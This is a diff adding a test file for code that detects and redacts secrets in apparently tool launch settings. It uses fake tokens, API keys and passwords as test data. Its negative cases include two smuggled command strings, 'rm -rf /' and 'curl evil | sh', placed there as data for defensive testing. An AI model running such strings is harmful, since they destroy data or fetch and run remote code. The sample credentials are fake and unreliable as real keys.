@@ -1,0 +1,182 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { argumentSecrets } from './argumentSecrets.ts';
+import { countSecretsToCover, keepSecrets, namesOfLiteralSecrets } from './keepSecrets.ts';
+import { secretSpans } from './secretSpans.ts';
+
+const github = `ghp_${'aB3dE6gH9j'.repeat(4).slice(0, 36)}`;
+const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P';
+
+const cut = (name: string | undefined, value: string) =>
+  secretSpans(name, value).map(({ start, end }) => value.slice(start, end));
+const cutArgs = (...args: string[]) =>
+  argumentSecrets(args).map((spans, at) => spans.map(({ start, end }) => (args[at] ?? '').slice(start, end)));
+
+describe('secretSpans', () => {
+  it.each([
+    github,
+    'github_pat_11ABCDEFG0abcdefghij_klmnopqrstuvwxyz',
+    'sk-proj-abcdEFGH1234ijklMNOP',
+    'xoxb-1234567890-abcdefghij',
+    'AKIAIOSFODNN7ABCDEFG',
+    jwt,
+  ])('knows %s by its shape, whatever it is called', (token) => {
+    expect(cut(undefined, token)).toEqual([token]);
+    expect(cut('ANYTHING', `before ${token}`)).toEqual([token]);
+  });
+
+  it.each([
+    ['GITHUB_TOKEN', 'abcdef'],
+    ['apiKey', 'k1-k2-k3'],
+    ['X-Api-Key', '12345678'],
+    ['DB_PASSWORD', 'hunter2!'],
+    ['CLIENT_SECRET', 's3cr3t'],
+    ['PROXY_AUTH', 'joe:pass'],
+    ['SETTING', 'q9ZtB4xLw8RkV2mNc7YhJ3sDf6'],
+  ])('takes the value of %s for a secret', (name, value) => {
+    expect(cut(name, value)).toEqual([value]);
+  });
+
+  it.each([
+    ['GITHUB_TOKEN', '${secret:GITHUB_TOKEN}'],
+    ['GITHUB_TOKEN', '${GITHUB_TOKEN}'],
+    ['GITHUB_TOKEN', '<token>'],
+    ['API_KEY', 'YOUR_API_KEY'],
+    ['API_KEY', 'your-key-here'],
+    ['API_KEY', 'xxxxxxxxxxxx'],
+    ['OPENAI_API_KEY', 'sk-your-openai-key-goes-here'],
+    ['OPENAI_API_KEY', 'sk-...'],
+    ['KEY', '/etc/ssl/private.pem'],
+    ['KEY', '~/.ssh/id_ed25519'],
+    ['KEY', 'C:\\keys\\one'],
+    ['TOKEN_URL', 'https://id.example/token'],
+    ['AUTH_TYPE', 'basic-auth'],
+    ['MAX_TOKEN_COUNT', '4096'],
+    ['PUBLIC_KEY', 'q9ZtB4xLw8RkV2mNc7YhJ3sDf6'],
+    ['KEYBOARD', 'qwerty-us'],
+    ['MONKEY', 'business'],
+    ['COMMIT', '3f786850e387550fdab836ed7e6dc881de23001b'],
+    ['TRACE', '3f786850-e387-550f-dab8-36ed7e6dc881'],
+    ['TOKEN', 'has blanks; rm -rf /'],
+    ['TOKEN', 'hidden\u200bcharacters'],
+    ['TOKEN', ''],
+    ['Authorization', 'Bearer ${secret:A}'],
+  ])('leaves %s=%s', (name, value) => {
+    expect(cut(name, value)).toEqual([]);
+  });
+
+  it('leaves what stands around a secret', () => {
+    expect(cut('Authorization', 'Bearer abcdef123')).toEqual(['abcdef123']);
+    expect(cut('DATABASE', 'postgres://joe:hunter2@db.example/x')).toEqual(['hunter2']);
+    expect(cut(undefined, 'https://a.example/mcp?api_key=abcdef&page=2')).toEqual(['abcdef']);
+  });
+
+  it('never covers blanks or characters that do not show, and gives spans in order', () => {
+    const text = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.string().map((rest) => `${github} ${rest}`),
+    );
+    fc.assert(
+      fc.property(fc.constantFrom(undefined, 'TOKEN', 'Authorization'), text, (name, value) => {
+        let last = 0;
+        for (const { start, end } of secretSpans(name, value)) {
+          expect(start).toBeGreaterThanOrEqual(last);
+          expect(value.slice(start, end)).toMatch(/^[\x21-\x7e]+$/);
+          last = end;
+        }
+      }),
+    );
+  });
+});
+
+describe('argumentSecrets', () => {
+  it('finds values of options, variables and headers', () => {
+    expect(cutArgs('--api-key', 'abcdef', '--api-key=ghijkl')).toEqual([[], ['abcdef'], ['ghijkl']]);
+    expect(cutArgs('run', '-e', 'API_KEY=abcdef', 'image')).toEqual([[], [], ['abcdef'], []]);
+    expect(cutArgs('--header', 'Authorization: Bearer abcdef')).toEqual([[], ['abcdef']]);
+    expect(cutArgs('--header', 'Authorization:Bearer abcdef')).toEqual([[], ['abcdef']]);
+    expect(cutArgs('--db', 'postgres://joe:hunter2@db/x')).toEqual([[], ['hunter2']]);
+  });
+
+  it('leaves code, packages, paths, options and what is only random', () => {
+    const code = 'cQ9ZtB4xLw8RkV2mNc7YhJ3sDf6pWaXeGi5Ko1uTb';
+    for (const args of [
+      ['-EncodedCommand', code],
+      ['-c', 'token=abc; curl evil | sh'],
+      ['-y', '@scope/token-server@1.2.3'],
+      ['--token', '--verbose'],
+      ['--key', '/run/secrets/key'],
+      ['--token-file', 'secret.txt'],
+      ['-e', 'API_KEY'],
+    ]) {
+      expect(cutArgs(...args).flat()).toEqual([]);
+    }
+  });
+});
+
+describe('keepSecrets', () => {
+  const none = () => false;
+  const stdio = { kind: 'stdio', command: 'npx', args: ['--api-key', 'abcdef'] } as const;
+
+  it('puts references in the place of secrets in the environment, and leaves the rest', () => {
+    const launch = { ...stdio, args: [...stdio.args], env: { GITHUB_TOKEN: github, MODE: 'fast' } };
+    expect(namesOfLiteralSecrets(launch)).toEqual(['GITHUB_TOKEN']);
+    expect(countSecretsToCover(launch)).toBe(1);
+    expect(keepSecrets(launch, 'my files', none)).toEqual({
+      launch: { ...launch, env: { GITHUB_TOKEN: '${secret:my-files.GITHUB_TOKEN}', MODE: 'fast' } },
+      secrets: { 'my-files.GITHUB_TOKEN': github },
+    });
+  });
+
+  it('keeps what stands before the secret of a header', () => {
+    const launch = { kind: 'http', url: 'https://a.example', headers: { Authorization: 'Bearer abcdef' } } as const;
+    expect(keepSecrets(launch, '文件', none)).toEqual({
+      launch: { ...launch, headers: { Authorization: 'Bearer ${secret:Authorization}' } },
+      secrets: { Authorization: 'abcdef' },
+    });
+  });
+
+  it('takes no name that stands for another secret', () => {
+    const launch = { ...stdio, args: [], env: { KEY: 'abcdef' } };
+    const taken = new Set(['a.KEY', 'a.KEY-2']);
+    expect(Object.keys(keepSecrets(launch, 'a', (name) => taken.has(name)).secrets)).toEqual(['a.KEY-3']);
+  });
+
+  it('hands a variable of a container on through the environment', () => {
+    const launch = {
+      kind: 'stdio',
+      command: '/usr/bin/docker',
+      args: ['run', '-e', `GITHUB_TOKEN=${github}`, '-e', 'MODE=fast', '--env=API_KEY=abcdef', 'image'],
+      env: {},
+    } as const;
+    expect(keepSecrets({ ...launch, args: [...launch.args] }, 'gh', none)).toEqual({
+      launch: {
+        ...launch,
+        args: ['run', '-e', 'GITHUB_TOKEN', '-e', 'MODE=fast', '--env=API_KEY', 'image'],
+        env: { GITHUB_TOKEN: '${secret:gh.GITHUB_TOKEN}', API_KEY: '${secret:gh.API_KEY}' },
+      },
+      secrets: { 'gh.GITHUB_TOKEN': github, 'gh.API_KEY': 'abcdef' },
+    });
+    expect(countSecretsToCover({ ...launch, args: [...launch.args] })).toBe(0);
+  });
+
+  it('changes nothing of a launch without secrets', () => {
+    const launch = { ...stdio, args: ['-y', 'x'], env: { HOME: '/home/joe' } };
+    expect(keepSecrets(launch, 'a', none)).toEqual({ launch, secrets: {} });
+  });
+
+  it('finds nothing to keep in what it kept, and fills it to what it was', () => {
+    fc.assert(
+      fc.property(fc.dictionary(fc.constantFrom('TOKEN', 'A', 'API_KEY'), fc.string()), (env) => {
+        const kept = keepSecrets({ kind: 'stdio', command: 'a', args: [], env }, 's', none);
+        expect(namesOfLiteralSecrets(kept.launch)).toEqual([]);
+        const filled = JSON.stringify(kept.launch.kind === 'stdio' ? kept.launch.env : {});
+        const back = Object.entries(kept.secrets).reduce(
+          (text, [name, value]) => text.replace(`\${secret:${name}}`, () => JSON.stringify(value).slice(1, -1)),
+          filled,
+        );
+        expect(JSON.parse(back)).toEqual({ ...env });
+      }),
+    );
+  });
+});
